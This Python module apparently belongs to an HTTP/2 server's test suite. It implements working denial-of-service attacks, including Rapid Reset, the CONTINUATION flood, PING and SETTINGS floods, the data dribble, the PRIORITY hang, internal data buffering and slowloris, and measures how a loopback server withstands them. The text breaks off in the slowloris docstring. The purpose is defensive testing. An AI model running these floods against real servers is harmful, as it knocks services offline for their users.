"""
Well-known denial-of-service attacks on HTTP/2 servers, played by bounded
clients on loopback, for the attack tests and the DoS benchmark.

Each attack is one callable: the floods are L{Flood}s, which share their
options, the others functions.  It connects over h2c (prior knowledge) or
TLS with ALPN h2 (the certificate is not verified), sends at most a budget
of frames within an overall deadline, and returns an L{AttackResult}: whether
the server closed the connection, the error code of its GOAWAY if it sent
one, what was sent, and how the run ended.  The well-formed parts (the
preface, settings, requests, resets) are encoded by the python h2 library;
the rest are raw frames, so that h2's own checks do not stand in the way.
Frames from the server are parsed only as far as the attack needs: its
SETTINGS are acknowledged, its GOAWAY recorded, its DATA counted.

L{probe} is the well-behaved client beside them: one GET on a fresh
connection, with its status, body and latency (its frames handled by h2,
as L{txpush.testing.h2client}'s are, on the attacks' non-blocking socket so
that one deadline bounds it all).
"""

from __future__ import annotations

import functools
import random
import selectors
import socket
import ssl
import time
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass
from itertools import cycle, islice
from typing import Any

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions
import h2.settings

from txpush.testing.h2client import FRAME_HEADER_LENGTH, GoAway

LOOPBACK = "127.0.0.1"
"""The only address the attacks are meant for."""

DATA = 0x0
HEADERS = 0x1
PRIORITY = 0x2
RST_STREAM = 0x3
SETTINGS = 0x4
PING = 0x6
GOAWAY = 0x7
WINDOW_UPDATE = 0x8
CONTINUATION = 0x9

END_STREAM = 0x1
ACK = 0x1
END_HEADERS = 0x4

MAX_WINDOW = 2**31 - 1
"""The largest flow-control window HTTP/2 allows."""

DEFAULT_WINDOW = 65535
"""The initial flow-control window of a connection and of its streams."""

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
"""The client connection preface."""

INITIAL_WINDOW_SIZE = h2.settings.SettingCodes.INITIAL_WINDOW_SIZE
HEADER_TABLE_SIZE = h2.settings.SettingCodes.HEADER_TABLE_SIZE
ENABLE_PUSH = h2.settings.SettingCodes.ENABLE_PUSH

HIGH_WATER = 256 * 1024
"""Bytes queued for the socket beyond which an attack makes no more."""

DRAIN_READS = 256
"""The most reads of what a closed connection's socket still holds."""

BATCH_FRAMES = 4096
"""The most frames an attack makes at a time."""

# Linux's TCP states (include/net/tcp_states.h) in which the peer has closed
# or reset the connection.
_TCP_CLOSE = 7
_TCP_CLOSE_WAIT = 8
_TCP_LAST_ACK = 9
_PEER_CLOSED = {_TCP_CLOSE, _TCP_CLOSE_WAIT, _TCP_LAST_ACK}

Header = tuple[bytes, bytes]

_WOULD_BLOCK = (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError)


def errorName(code: int | None) -> str | None:
    """
    The name of an HTTP/2 error code.

    @param code: The code, or L{None}.
    @return: Its name (C{ENHANCE_YOUR_CALM}), its number for an unknown
        code, or L{None} for L{None}.
    """
    if code is None:
        return None
    try:
        return h2.errors.ErrorCodes(code).name
    except ValueError:
        return f"0x{code:x}"


@dataclass
class AttackResult:
    """
    How one attack went.

    @ivar attack: The attack's name.
    @ivar tls: Whether it spoke TLS rather than h2c.
    @ivar ended: How the sending ended: C{"closed"} (the server closed every
        connection first), C{"budget"} (every frame was sent), C{"deadline"}
        (the time ran out), C{"sent"} (an attack with a fixed script sent it
        and closed the connection itself), C{"unreachable"} (no connection
        could be made; see C{error}).
    @ivar closedByServer: Whether the server closed (or reset) every
        connection, at any time before the deadline.
    @ivar goAwayCode: The error code of the first GOAWAY the server sent, or
        L{None}.
    @ivar framesSent: The frames queued for the server (all but the last
        few hundred kilobytes of them were written).
    @ivar bytesSent: The bytes written to the sockets (for TLS: plaintext).
    @ivar bytesReceived: The bytes read from the sockets.
    @ivar seconds: How long the attack ran.
    @ivar closedAfter: When every connection had been closed by the server,
        in seconds from the start; L{None} if some was not.
    @ivar connections: How many connections were opened.
    @ivar connectionsClosed: How many of them the server closed.
    @ivar goAways: How many connections got a GOAWAY.
    @ivar resets: How many connections the server reset rather than closed.
    @ivar streams: How many streams were opened.
    @ivar error: What went wrong, for C{"unreachable"}.
    """

    attack: str
    tls: bool
    ended: str
    closedByServer: bool
    goAwayCode: int | None
    framesSent: int
    bytesSent: int
    bytesReceived: int
    seconds: float
    closedAfter: float | None = None
    connections: int = 1
    connectionsClosed: int = 0
    goAways: int = 0
    resets: int = 0
    streams: int = 0
    error: str | None = None

    @property
    def goAwayName(self) -> str | None:
        """The name of C{goAwayCode}."""
        return errorName(self.goAwayCode)


@dataclass(frozen=True)
class ProbeResult:
    """
    One GET by a well-behaved client.

    @ivar status: The response's status, or L{None} if none came.
    @ivar body: The response's body.
    @ivar seconds: From the connection attempt to the end of the response.
    @ivar error: What went wrong, or L{None}.
    """

    status: int | None
    body: bytes
    seconds: float
    error: str | None = None

    @property
    def ok(self) -> bool:
        """Whether the answer was a 200."""
        return self.status == 200


@functools.cache
def tlsContext() -> ssl.SSLContext:
    """
    The client TLS context of the attacks: it offers only h2 by ALPN and
    verifies nothing (the servers attacked use development certificates),
    so it loads no CA certificates, made once.
    """
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    return context


def rawFrame(frameType: int, flags: int, streamID: int, payload: bytes = b"") -> bytes:
    """
    One HTTP/2 frame, as bytes, whether or not it makes sense.

    @param frameType: Its type.
    @param flags: Its flags.
    @param streamID: Its stream.
    @param payload: Its payload.
    """
    return (
        len(payload).to_bytes(3, "big")
        + bytes([frameType, flags])
        + (streamID & MAX_WINDOW).to_bytes(4, "big")
        + payload
    )


def priorityFrame(
    streamID: int, dependsOn: int, weight: int = 16, exclusive: bool = False
) -> bytes:
    """
    A PRIORITY frame.

    @param streamID: The stream reprioritised.
    @param dependsOn: The stream it is to depend on.
    @param weight: Its weight, 1 to 256.
    @param exclusive: Whether the dependency is exclusive.
    """
    dependency = dependsOn | (1 << 31 if exclusive else 0)
    payload = dependency.to_bytes(4, "big") + bytes([weight - 1])
    return rawFrame(PRIORITY, 0, streamID, payload)


def windowUpdateFrame(streamID: int, increment: int) -> bytes:
    """
    A WINDOW_UPDATE frame.

    @param streamID: Its stream (0: the connection).
    @param increment: By how much the window opens.
    """
    return rawFrame(WINDOW_UPDATE, 0, streamID, increment.to_bytes(4, "big"))


def settingsFrame(settings: dict[int, int]) -> bytes:
    """
    A SETTINGS frame (not an acknowledgement).

    @param settings: The values, by setting code.
    """
    payload = b"".join(
        code.to_bytes(2, "big") + value.to_bytes(4, "big")
        for code, value in settings.items()
    )
    return rawFrame(SETTINGS, 0, 0, payload)


class AttackConnection:
    """
    One connection of an attacker, on a non-blocking socket.

    Bytes to send are queued with L{queue} and written by L{pump}, which also
    reads (unless C{reading} is off) and handles what the server sends as far
    as an attacker cares.

    @ivar conn: The h2 connection that encodes the well-formed frames (it is
        never fed the server's).
    @ivar reading: Whether L{pump} reads the socket.
    @ivar answering: Whether the server's SETTINGS and PINGs are answered
        (not by a client that has not sent its preface).
    @ivar closed: Whether the connection is closed, by either side.
    @ivar closedByServer: Whether the server closed or reset it.
    @ivar resetByServer: Whether the server reset it.
    @ivar closedAt: When it closed, by C{time.monotonic}.
    @ivar goAway: The server's first GOAWAY, once it came.
    @ivar serverSettings: Whether the server's SETTINGS came.
    @ivar pingAcks: How many PING acknowledgements came.
    @ivar dataReceived: The DATA payload bytes that came.
    @ivar framesSent: The frames queued so far.
    @ivar bytesSent: The bytes written so far.
    @ivar bytesReceived: The bytes read so far.
    @ivar streams: How many streams were opened.
    @ivar lastStreamID: The last stream opened.
    """

    def __init__(
        self,
        port: int,
        tls: bool = False,
        host: str = LOOPBACK,
        settings: dict[int, int] | None = None,
        preface: bool = True,
        timeout: float = 10.0,
        handshakeTLS: bool = True,
    ) -> None:
        """
        Connect (and for TLS, shake hands).

        @param port: The server's port.
        @param tls: Whether to speak TLS with ALPN h2.
        @param host: The server's address.
        @param settings: Settings to send after the preface, by code.
        @param preface: Whether to queue the preface and SETTINGS (and then
            answer the server's SETTINGS and PINGs).
        @param timeout: How long connecting and shaking hands may take.
        @param handshakeTLS: For TLS, whether to shake hands at all (a client
            that connects and says nothing when it does not).
        @raise OSError: The connection failed.
        @raise ConnectionError: The server did not choose h2.
        """
        raw = socket.create_connection((host, port), timeout=timeout)
        raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.sock: socket.socket = raw
        if tls and handshakeTLS:
            try:
                self.sock = tlsContext().wrap_socket(raw, server_hostname="localhost")
            except BaseException:
                raw.close()
                raise
            if self.sock.selected_alpn_protocol() != "h2":
                self.sock.close()
                raise ConnectionError("the server did not choose h2 by ALPN")
        self.sock.setblocking(False)
        self.tls = tls
        self.authority = f"localhost:{port}".encode()
        self.conn = h2.connection.H2Connection(
            h2.config.H2Configuration(client_side=True, header_encoding=None)
        )
        self.reading = True
        self.answering = preface
        self.closed = False
        self.closedByServer = False
        self.resetByServer = False
        self.closedAt: float | None = None
        self.goAway: GoAway | None = None
        self.serverSettings = False
        self.pingAcks = 0
        self.dataReceived = 0
        self.framesSent = 0
        self.bytesSent = 0
        self.bytesReceived = 0
        self.streams = 0
        self.lastStreamID = 0
        self._out = bytearray()
        self._in = bytearray()
        self._selector: selectors.BaseSelector | None = None
        self._events = 0
        if preface:
            self.conn.initiate_connection()
            if settings:
                self.conn.update_settings(settings)
            self.queue(self.conn.data_to_send(), 2 if settings else 1)

    # Sending.

    @property
    def unsent(self) -> int:
        """The bytes queued and not yet written."""
        return len(self._out)

    def queue(self, data: bytes, frames: int) -> None:
        """
        Queue bytes for the server.

        @param data: The bytes.
        @param frames: How many frames they hold.
        """
        self._out += data
        self.framesSent += frames

    def requestHeaders(self, path: bytes, method: bytes = b"GET") -> list[Header]:
        """
        A request's pseudo-headers.

        @param path: Its :path.
        @param method: Its :method.
        """
        return [
            (b":method", method),
            (b":scheme", b"https" if self.tls else b"http"),
            (b":authority", self.authority),
            (b":path", path),
        ]

    def encodeRequest(
        self,
        path: bytes,
        method: bytes = b"GET",
        endStream: bool = True,
        reset: bool = False,
    ) -> bytes:
        """
        The HEADERS of a request on a new stream, and if C{reset}, the
        RST_STREAM (CANCEL) that follows them: not queued.

        @param path: Its :path.
        @param method: Its :method.
        @param endStream: Whether the HEADERS end the stream.
        @param reset: Whether to reset the stream at once.
        """
        streamID = self.conn.get_next_available_stream_id()
        headers = self.requestHeaders(path, method)
        self.conn.send_headers(streamID, headers, end_stream=endStream)
        if reset:
            self.conn.reset_stream(streamID, error_code=h2.errors.ErrorCodes.CANCEL)
        self.streams += 1
        self.lastStreamID = streamID
        return bytes(self.conn.data_to_send())

    def request(
        self, path: bytes, method: bytes = b"GET", endStream: bool = True
    ) -> int:
        """
        Queue a request's HEADERS on a new stream.

        @param path: Its :path.
        @param method: Its :method.
        @param endStream: Whether the HEADERS end the stream.
        @return: The stream's id.
        """
        self.queue(self.encodeRequest(path, method, endStream), 1)
        return self.lastStreamID

    # The socket.

    def pump(self, timeout: float) -> None:
        """
        Write what is queued and read what came, waiting at most C{timeout}
        seconds for the socket to be ready for either.

        @param timeout: In seconds.
        """
        if self.closed:
            return
        if (
            self.reading
            and isinstance(self.sock, ssl.SSLSocket)
            and self.sock.pending()
        ):
            self.readAvailable()
            timeout = 0
        events = (selectors.EVENT_READ if self.reading else 0) | (
            selectors.EVENT_WRITE if self._out else 0
        )
        if self._selector is None:
            self._selector = selectors.DefaultSelector()
        if events != self._events:
            if self._events:
                self._selector.unregister(self.sock)
            if events:
                self._selector.register(self.sock, events)
            self._events = events
        if not events:
            time.sleep(max(timeout, 0))
            self.checkClosed()
            return
        for _, mask in self._selector.select(max(timeout, 0)):
            # Reading first: a server's GOAWAY is read before a write finds
            # the connection reset (after which TLS reads nothing more).
            if mask & selectors.EVENT_READ:
                self.readAvailable()
            if mask & selectors.EVENT_WRITE:
                self.writePending()
        if not self.reading:
            self.checkClosed()

    def writePending(self) -> None:
        """Write what is queued until the socket would block."""
        while self._out and not self.closed:
            try:
                written = self.sock.send(memoryview(self._out)[:HIGH_WATER])
            except _WOULD_BLOCK:
                return
            except (OSError, ssl.SSLError) as error:
                self._lost(isinstance(error, ConnectionResetError))
                return
            self.bytesSent += written
            del self._out[:written]

    def readAvailable(self, reads: int = 16) -> None:
        """
        Read what came, at most C{reads} times, and handle its frames.

        @param reads: The most reads.
        """
        for _ in range(reads):
            if self.closed:
                return
            try:
                data = self.sock.recv(262144)
            except _WOULD_BLOCK:
                return
            except (OSError, ssl.SSLError) as error:
                self._lost(isinstance(error, ConnectionResetError))
                return
            if not data:
                self._lost(False)
                return
            self.bytesReceived += len(data)
            self._in += data
            self._handleFrames()

    def checkClosed(self) -> bool:
        """
        Whether the server closed the connection, by the TCP state, without
        reading: for a client that reads nothing.
        """
        if self.closed:
            return self.closedByServer
        try:
            state = self.sock.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1)[0]
        except OSError:
            return False
        if state in _PEER_CLOSED:
            self._lost(state == _TCP_CLOSE)
        return self.closedByServer

    def close(self) -> None:
        """Close the connection from this side."""
        if not self.closed:
            self.closed = True
            self.closedAt = time.monotonic()
        if self._selector is not None:
            self._selector.close()
        self.sock.close()

    def _lost(self, reset: bool) -> None:
        self.closed = True
        self.closedByServer = True
        self.resetByServer = reset
        self.closedAt = time.monotonic()
        # A failed write may come before the read of the server's last
        # frames (its GOAWAY), still in the socket's buffer: read them.
        for _ in range(DRAIN_READS):
            try:
                data = self.sock.recv(262144)
            except (OSError, ssl.SSLError):
                break
            if not data:
                break
            self.bytesReceived += len(data)
            self._in += data
            self._handleFrames()

    def _handleFrames(self) -> None:
        inbound = self._in
        offset = 0
        while len(inbound) - offset >= FRAME_HEADER_LENGTH:
            length = int.from_bytes(inbound[offset : offset + 3], "big")
            end = offset + FRAME_HEADER_LENGTH + length
            if end > len(inbound):
                break
            frameType, flags = inbound[offset + 3], inbound[offset + 4]
            payload = bytes(inbound[offset + FRAME_HEADER_LENGTH : end])
            if frameType == DATA:
                self.dataReceived += length
            elif frameType == SETTINGS and not flags & ACK:
                self.serverSettings = True
                if self.answering:
                    self.queue(rawFrame(SETTINGS, ACK, 0), 1)
            elif frameType == PING:
                if flags & ACK:
                    self.pingAcks += 1
                elif self.answering:
                    self.queue(rawFrame(PING, ACK, 0, payload), 1)
            elif frameType == GOAWAY and self.goAway is None:
                self.goAway = GoAway(
                    lastStreamID=int.from_bytes(payload[:4], "big") & MAX_WINDOW,
                    errorCode=int.from_bytes(payload[4:8], "big"),
                )
            offset = end
        del inbound[:offset]

    # Waiting.

    def runUntil(self, condition: Callable[[], bool], deadline: float) -> bool:
        """
        Pump until C{condition()} holds, the connection closes or the
        deadline.

        @param condition: Checked between pumps.
        @param deadline: By C{time.monotonic}.
        @return: Whether the condition held.
        """
        while not condition():
            remaining = deadline - time.monotonic()
            if self.closed or remaining <= 0:
                return condition()
            self.pump(min(remaining, 0.1))
        return True

    def flush(self, deadline: float) -> bool:
        """
        Pump until everything queued is written.

        @param deadline: By C{time.monotonic}.
        @return: Whether it was.
        """
        return self.runUntil(lambda: not self._out, deadline)

    def handshake(self, deadline: float) -> bool:
        """
        Send what is queued and wait for the server's SETTINGS.

        @param deadline: By C{time.monotonic}.
        @return: Whether they came.
        """
        return self.runUntil(lambda: self.serverSettings and not self._out, deadline)

    def sync(self, deadline: float) -> bool:
        """
        Send a PING and wait for its acknowledgement: the server has then
        read everything queued before it.

        @param deadline: By C{time.monotonic}.
        @return: Whether the acknowledgement came.
        """
        acknowledged = self.pingAcks + 1
        self.queue(rawFrame(PING, 0, 0, b"txpushAK"), 1)
        return self.runUntil(lambda: self.pingAcks >= acknowledged, deadline)


# Driving attacks.

Batches = Callable[[int], tuple[bytes, int]]
"""Makes at most the given number of frames: (their bytes, how many)."""


def cycling(frames: Iterable[bytes]) -> Batches:
    """
    Batches of the given frames, over and over.

    @param frames: The frames, in the order to repeat.
    """
    endless: Iterator[bytes] = cycle(list(frames))

    def batch(count: int) -> tuple[bytes, int]:
        return b"".join(islice(endless, count)), count

    return batch


def _result(
    attack: str,
    tls: bool,
    connections: list[AttackConnection],
    ended: str,
    started: float,
    error: str | None = None,
) -> AttackResult:
    closed = [c for c in connections if c.closedByServer]
    goAways = [c.goAway for c in connections if c.goAway is not None]
    allClosed = bool(connections) and len(closed) == len(connections)
    return AttackResult(
        attack=attack,
        tls=tls,
        ended=ended,
        closedByServer=allClosed,
        goAwayCode=goAways[0].errorCode if goAways else None,
        framesSent=sum(c.framesSent for c in connections),
        bytesSent=sum(c.bytesSent for c in connections),
        bytesReceived=sum(c.bytesReceived for c in connections),
        seconds=round(time.monotonic() - started, 3),
        closedAfter=(
            round(max(c.closedAt or started for c in closed) - started, 3)
            if allClosed
            else None
        ),
        connections=len(connections),
        connectionsClosed=len(closed),
        goAways=len(goAways),
        resets=sum(c.resetByServer for c in connections),
        streams=sum(c.streams for c in connections),
        error=error,
    )


def _unreachable(
    attack: str, tls: bool, started: float, error: BaseException
) -> AttackResult:
    return _result(
        attack, tls, [], "unreachable", started, f"{type(error).__name__}: {error}"
    )


_CONNECT_ERRORS = (OSError, ssl.SSLError, ConnectionError)


def flood(
    attack: str,
    connection: AttackConnection,
    batches: Batches,
    frames: int,
    deadline: float,
    started: float,
    rate: float | None = None,
    linger: float = 2.0,
) -> AttackResult:
    """
    Send frames from C{batches} as fast as the server takes them (or at
    C{rate} frames a second), reading what it answers, until it closes the
    connection, C{frames} are sent, or the deadline; then wait up to
    C{linger} seconds (within the deadline) for it to close the connection.
    The connection is closed at the end.

    @param attack: The attack's name, for the result.
    @param connection: An open connection, past its handshake.
    @param batches: Makes the frames.
    @param frames: The budget: the most frames to send.
    @param deadline: By C{time.monotonic}.
    @param started: When the attack started, by C{time.monotonic}.
    @param rate: Frames per second, or L{None} for as fast as possible.
    @param linger: Seconds to wait for the server to close the connection
        once the budget is spent.
    @return: How it went.
    """
    sent = 0
    floodStarted = time.monotonic()
    ended = "deadline"
    while True:
        now = time.monotonic()
        if connection.closed:
            ended = "closed"
            break
        if sent >= frames:
            ended = "budget"
            break
        if now >= deadline:
            break
        allowed = min(BATCH_FRAMES, frames - sent)
        if rate is not None:
            allowed = min(allowed, int(rate * (now - floodStarted)) + 1 - sent)
        if allowed > 0 and connection.unsent < HIGH_WATER:
            data, count = batches(allowed)
            connection.queue(data, count)
            sent += count
            connection.pump(0)
        else:
            # At a rate, frames go in bursts of at most a hundredth of a second.
            wait = 0.05 if rate is None else min(0.05, max(0.01, 1 / rate))
            connection.pump(min(wait, max(deadline - now, 0)))
    if ended == "budget":
        connection.runUntil(lambda: False, min(deadline, time.monotonic() + linger))
        if connection.closedByServer:
            ended = "closed"
    connection.close()
    return _result(attack, connection.tls, [connection], ended, started)


@dataclass(frozen=True)
class Flood:
    """
    An attack that floods one connection with frames: it connects (sending
    C{settings} after the preface), lets C{prepare} queue its opening frames
    (requests, say) and make the frames it repeats, waits for the server's
    SETTINGS, and then sends those frames with L{flood}.  Call it to run it.

    @ivar name: What the results call it.
    @ivar prepare: Given the new connection and the path the attack
        requests, queues the opening frames and returns the batches.
    @ivar settings: The client's settings, by code.
    """

    name: str
    prepare: Callable[[AttackConnection, bytes], Batches]
    settings: tuple[tuple[int, int], ...] = ()

    def __call__(
        self,
        port: int,
        tls: bool = False,
        *,
        host: str = LOOPBACK,
        path: bytes = b"/",
        frames: int = 1_000_000,
        deadline: float = 20.0,
        linger: float = 2.0,
        rate: float | None = None,
    ) -> AttackResult:
        """
        Run the flood.

        @param port: The server's port on C{host}.
        @param tls: Whether to speak TLS rather than h2c.
        @param host: The server's address.
        @param path: What the attack's requests ask for, if it makes any (a
            file of more than 64 KiB where their responses are to wait).
        @param frames: The budget: the most frames to send after the opening
            ones.
        @param deadline: The most seconds the attack takes.
        @param linger: Seconds to wait for the close once all is sent.
        @param rate: Frames per second, or L{None} for as fast as possible.
        """
        name = self.name if rate is None else f"{self.name} at {rate:g} frames/s"
        started = time.monotonic()
        until = started + deadline
        try:
            connection = AttackConnection(
                port, tls, host, settings=dict(self.settings), timeout=min(deadline, 10)
            )
        except _CONNECT_ERRORS as error:
            return _unreachable(name, tls, started, error)
        batches = self.prepare(connection, path)
        if not connection.handshake(until):
            connection.close()
            ended = "closed" if connection.closedByServer else "deadline"
            return _result(name, tls, [connection], ended, started)
        return flood(name, connection, batches, frames, until, started, rate, linger)


def _continuation(connection: AttackConnection, path: bytes) -> Batches:
    block = connection.conn.encoder.encode(connection.requestHeaders(path))
    # A literal header without indexing, new name "x-flood", whose value is
    # announced as 2**30 bytes long: the CONTINUATION frames carry it.
    block += b"\x00\x07x-flood" + _hpackInteger(2**30, 7)
    connection.queue(rawFrame(HEADERS, END_STREAM, 1, block), 1)
    return cycling([rawFrame(CONTINUATION, 0, 1, b"a" * 16384)])


continuationFlood = Flood("CONTINUATION flood", _continuation)
"""
The CONTINUATION flood (CVE-2024-27316 class): a HEADERS frame without
END_HEADERS that starts a header whose value never ends, then CONTINUATION
frames of 16 KiB of its value, without end.
"""


def _hpackInteger(value: int, prefixBits: int) -> bytes:
    # RFC 7541 5.1, with the prefix's other bits zero.
    limit = (1 << prefixBits) - 1
    if value < limit:
        return bytes([value])
    out = bytearray([limit])
    value -= limit
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    out.append(value)
    return bytes(out)


def _openStreams(connection: AttackConnection, path: bytes, count: int) -> list[int]:
    return [connection.request(path) for _ in range(count)]


def _shuffle(connection: AttackConnection, path: bytes) -> Batches:
    ids = _openStreams(connection, path, 100)
    shuffle = random.Random(13)
    pool = []
    for _ in range(20_000):
        streamID, parent = shuffle.sample(ids, 2)
        weight, exclusive = shuffle.randint(1, 256), shuffle.random() < 0.2
        pool.append(priorityFrame(streamID, parent, weight, exclusive))
    return cycling(pool)


priorityShuffle = Flood("PRIORITY shuffle", _shuffle, ((INITIAL_WINDOW_SIZE, 0),))
"""
PRIORITY frames that reshuffle the dependencies of 100 open streams at
random (their responses wait on an initial window of 0): random parents,
weights and exclusive flags, cycles included.
"""


def _windowUpdates(connection: AttackConnection, path: bytes) -> Batches:
    ids = _openStreams(connection, path, 10)
    return cycling(windowUpdateFrame(streamID, 1) for streamID in ids)


windowUpdateFlood = Flood("WINDOW_UPDATE flood", _windowUpdates)
"""
A WINDOW_UPDATE flood on open streams: 10 requests of a large file, whose
responses soon wait on the connection's window (never opened), then
WINDOW_UPDATE frames of 1 byte on those streams, round and round, each of
which may wake the server's sending loop for nothing.
"""


def _dribble(connection: AttackConnection, path: bytes) -> Batches:
    connection.queue(windowUpdateFrame(0, MAX_WINDOW - DEFAULT_WINDOW), 1)
    ids = _openStreams(connection, path, 100)
    return cycling(windowUpdateFrame(streamID, 1) for streamID in ids)


dataDribble = Flood("data dribble", _dribble, ((INITIAL_WINDOW_SIZE, 0),))
"""
The data dribble (CVE-2019-9511): 100 requests with an initial stream
window of 0 (the connection's opened wide), then WINDOW_UPDATE frames of 1
byte on each stream, round and round, so that the server answers with DATA
frames of one byte.
"""


def _emptyData(connection: AttackConnection, path: bytes) -> Batches:
    streamID = connection.request(path, endStream=False)
    return cycling([rawFrame(DATA, 0, streamID)])


emptyDataFlood = Flood("empty DATA frames", _emptyData, ((INITIAL_WINDOW_SIZE, 0),))
"""
Empty DATA frames without end: a request whose HEADERS do not end the
stream (its response waits on an initial window of 0), then DATA frames of
no payload and no flags on it.
"""


def _rapidReset(connection: AttackConnection, path: bytes) -> Batches:
    def batch(count: int) -> tuple[bytes, int]:
        pairs = max(count // 2, 1)
        data = b"".join(
            connection.encodeRequest(path, reset=True) for _ in range(pairs)
        )
        return data, 2 * pairs

    return batch


rapidReset = Flood("Rapid Reset", _rapidReset)
"""
Rapid Reset (CVE-2023-44487): the HEADERS of a request and at once a
RST_STREAM (CANCEL) of it, on stream after stream: two frames a stream.
"""


def _repeat(frame: bytes) -> Callable[[AttackConnection, bytes], Batches]:
    return lambda connection, path: cycling([frame])


settingsFlood = Flood(
    "SETTINGS flood", _repeat(settingsFrame({HEADER_TABLE_SIZE: 4096}))
)
"""
A SETTINGS flood: SETTINGS frames (a header table of the default 4096
bytes, changing nothing), each of which the server must acknowledge.
"""

PING_FRAME = rawFrame(PING, 0, 0, b"pingpong")

pingFlood = Flood("PING flood", _repeat(PING_FRAME))
"""A PING flood: PING frames, each of which the server must answer."""


def _unreadPings(connection: AttackConnection, path: bytes) -> Batches:
    connection.handshake(time.monotonic() + 10)
    connection.reading = False
    return cycling([PING_FRAME])


unreadPingFlood = Flood("PING flood, unread", _unreadPings)
"""
The PING flood of CVE-2019-9512: PING frames whose answers are never read,
so that they pile up on the server's side.
"""


def priorityHang(
    port: int,
    tls: bool = False,
    *,
    host: str = LOOPBACK,
    path: bytes = b"/",
    deadline: float = 10.0,
) -> AttackResult:
    """
    The PRIORITY hang (CVE-2019-9513 class): streams 1, 3 and 5 opened
    with an initial window of 0 (their responses wait), then PRIORITY 1 on
    3, 3 on 5, 5 on 3 (a cycle), then 1 on 3 exclusively; once the server has
    answered a PING sent after them, the attacker closes the connection.  A
    server whose priority tree kept the cycle may never finish removing the
    streams: watch it with a probe.

    @param port: The server's port on C{host}.
    @param tls: Whether to speak TLS rather than h2c.
    @param host: The server's address.
    @param path: What the three streams request: a file larger than a few
        bytes, so that its response waits for a window.
    @param deadline: The most seconds the attack takes.
    @return: C{ended} is C{"sent"} once it closed the connection itself.
    """
    attack = "PRIORITY hang"
    started = time.monotonic()
    until = started + deadline
    try:
        connection = AttackConnection(
            port, tls, host, settings={INITIAL_WINDOW_SIZE: 0}, timeout=deadline
        )
    except _CONNECT_ERRORS as error:
        return _unreachable(attack, tls, started, error)
    if connection.handshake(until):
        for _ in range(3):
            connection.request(path)
        for streamID, dependsOn, exclusive in [
            (1, 3, False),
            (3, 5, False),
            (5, 3, False),
            (1, 3, True),
        ]:
            connection.queue(priorityFrame(streamID, dependsOn, exclusive=exclusive), 1)
        connection.sync(until)
    ended = "closed" if connection.closedByServer else "sent"
    if not connection.closed and time.monotonic() >= until:
        ended = "deadline"
    connection.close()
    return _result(attack, tls, [connection], ended, started)


def dataBuffering(
    port: int,
    tls: bool = False,
    *,
    host: str = LOOPBACK,
    path: bytes = b"/",
    streams: int = 100,
    connections: int = 1,
    deadline: float = 20.0,
    during: Callable[[], object] | None = None,
) -> AttackResult:
    """
    Internal data buffering (CVE-2019-9517): each connection opens its
    window and every stream's to 2**31-1, requests C{path} on C{streams}
    streams, and from then on never reads the socket.  It holds until the
    server has closed every connection, or the deadline.

    @param port: The server's port on C{host}.
    @param tls: Whether to speak TLS rather than h2c.
    @param host: The server's address.
    @param path: What each stream requests: a large file.
    @param streams: Streams per connection.
    @param connections: How many connections.
    @param deadline: The most seconds the attack takes.
    @param during: Called once every request is sent, while the attack
        holds (with a probe, say).
    """
    attack = "internal data buffering"
    started = time.monotonic()
    until = started + deadline
    opened: list[AttackConnection] = []
    for _ in range(connections):
        try:
            connection = AttackConnection(
                port,
                tls,
                host,
                settings={INITIAL_WINDOW_SIZE: MAX_WINDOW},
                timeout=max(until - time.monotonic(), 0.1),
            )
        except _CONNECT_ERRORS as error:
            if not opened:
                return _unreachable(attack, tls, started, error)
            break
        opened.append(connection)
        connection.queue(windowUpdateFrame(0, MAX_WINDOW - DEFAULT_WINDOW), 1)
        if connection.handshake(until):
            for _ in range(streams):
                connection.request(path)
            connection.flush(until)
        connection.reading = False
    if during is not None:
        during()
    while time.monotonic() < until and not all(c.checkClosed() for c in opened):
        time.sleep(0.05)
    ended = "closed" if all(c.closedByServer for c in opened) else "deadline"
    for connection in opened:
        connection.close()
    return _result(attack, tls, opened, ended, started)


def _hold(
    connections: list[AttackConnection],
    until: float,
    tick: Callable[[], None] | None = None,
    interval: float = 1.0,
    during: Callable[[], object] | None = None,
) -> str:
    """
    Read every connection (answering the server as L{AttackConnection} does)
    until the server has closed them all, or the deadline; call C{tick}
    every C{interval} seconds meanwhile, and C{during} once at the start.

    @return: C{"closed"} or C{"deadline"}.
    """
    if during is not None:
        during()
    selector = selectors.DefaultSelector()
    registered: set[AttackConnection] = set()
    for connection in connections:
        if not connection.closed:
            selector.register(connection.sock, selectors.EVENT_READ, connection)
            registered.add(connection)
    nextTick = time.monotonic() + interval
    try:
        while registered:
            now = time.monotonic()
            if now >= until:
                return "deadline"
            if tick is not None and now >= nextTick:
                tick()
                nextTick = now + interval
            wake = min(until, nextTick) if tick is not None else until
            for key, _ in selector.select(max(wake - now, 0)):
                connection = key.data
                connection.readAvailable()
                connection.writePending()
            for connection in [c for c in registered if c.closed]:
                selector.unregister(connection.sock)
                registered.discard(connection)
        return "closed"
    finally:
        selector.close()


def _openMany(
    count: int,
    until: float,
    open: Callable[[], AttackConnection],
) -> tuple[list[AttackConnection], str | None]:
    """
    Open up to C{count} connections before the deadline.

    @return: Those opened, and the first error if some could not be.
    """
    opened: list[AttackConnection] = []
    error: str | None = None
    for _ in range(count):
        if time.monotonic() >= until:
            break
        try:
            opened.append(open())
        except _CONNECT_ERRORS as failure:
            error = error or f"{type(failure).__name__}: {failure}"
    return opened, error


def slowloris(
    port: int,
    tls: bool = False,
    *,
    host: str = LOOPBACK,
    connections: int = 500,
    deadline: float = 20.0,
    interval: float = 1.0,
    silent: bool = False,
    during: Callable[[], object] | None = None,
) -> AttackResult:
    """
    Slowloris: connections that never finish the preface.  Each (for TLS,
    past the TLS handshake) sends the preface's first byte, then one more
    byte every C{interval} seconds, never the last.  The attack holds until
    the server has closed every connection, or the deadline.

    @param port: The server's port on C{host}.
    @param tls: Whether to speak TLS rather than h2c.
    @param host: The server's address.
    @param connections: How many connections.
    @param deadline: The most seconds the attack takes.
